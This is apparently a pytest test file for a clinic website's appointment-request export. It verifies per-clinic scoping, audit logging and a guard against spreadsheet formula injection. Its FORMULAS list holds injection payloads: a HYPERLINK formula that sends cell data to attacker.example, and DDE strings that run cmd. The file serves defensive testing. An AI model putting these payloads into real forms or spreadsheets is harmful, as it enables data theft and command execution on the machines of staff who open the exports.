"""Exporting appointment requests: a manager's export holds only their clinic's
requests, and every exported request is written to Wagtail's audit log."""

import pytest
from wagtail.models import ModelLogEntry

from locations.appointments.admin import EXPORT_ACTION
from tests.locations.test_permissions import make_request, requests_at, staff_user  # noqa: F401

pytestmark = pytest.mark.django_db


def test_export_contains_only_the_managers_clinic_and_is_logged(
    client,
    django_user_model,
    requests_at,  # noqa: F811
):
    midtown_request, astoria_request = requests_at
    manager = staff_user(django_user_model, "midtown-exporter", midtown_request.location)
    client.force_login(manager)
    response = client.get("/admin/appointment_requests/?export=csv")
    assert response.status_code == 200
    csv = (
        b"".join(response.streaming_content).decode()
        if response.streaming
        else (response.content.decode())
    )
    assert "Midtown Patient" in csv
    assert "Astoria Patient" not in csv

    entries = ModelLogEntry.objects.filter(action=EXPORT_ACTION)
    assert [(e.object_id, e.user_id, e.data["format"]) for e in entries] == [
        (str(midtown_request.pk), manager.pk, "csv")
    ]


def test_exports_show_in_the_audit_log_report(admin_client, requests_at):  # noqa: F811
    admin_client.get("/admin/appointment_requests/?export=xlsx")
    report = admin_client.get("/admin/reports/site-history/")
    assert report.status_code == 200
    assert "Exported" in report.content.decode()


# OWASP's formula triggers, each at the start of a name (tab and carriage return
# cannot come through the form, which trims names, but may be in older rows).
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(client, spreadsheet_format):
    response = client.get(f"/admin/appointment_requests/?export={spreadsheet_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_no_exported_cell_runs_as_a_formula(admin_client, page_by_path):
    import csv
    import io

    from openpyxl import load_workbook

    from tests.locations.test_appointments import form_data

    midtown = page_by_path("/locations/midtown/")
    # The first through the public form, as a patient would send it.
    response = admin_client.post(midtown.url + "appointment/", form_data(midtown, name=FORMULAS[0]))
    assert response.status_code == 302
    for name in FORMULAS[1:]:
        make_request(midtown, name)
    make_request(midtown, "Pat Example")

    rows = list(csv.DictReader(io.StringIO(exported(admin_client, "csv").decode(), newline="")))
    names = {row["Name"] for row in rows}
    assert names == {"'" + name for name in FORMULAS} | {"Pat Example"}
    # Phones read as staff dial them, never mangled by the guard or by a spreadsheet.
    assert {row["Phone"] for row in rows} == {"(917) 555-0142"}

    # XLSX: the same text, as string cells that no spreadsheet evaluates.
    sheet = load_workbook(io.BytesIO(exported(admin_client, "xlsx"))).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    cells = [row[header.index("Name")] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed.)
    expected = {name.replace("\r", "\n") for name in FORMULAS}
    assert {cell.value for cell in cells} == {*expected, "Pat Example"}
    assert {cell.data_type for cell in cells} == {"s"}
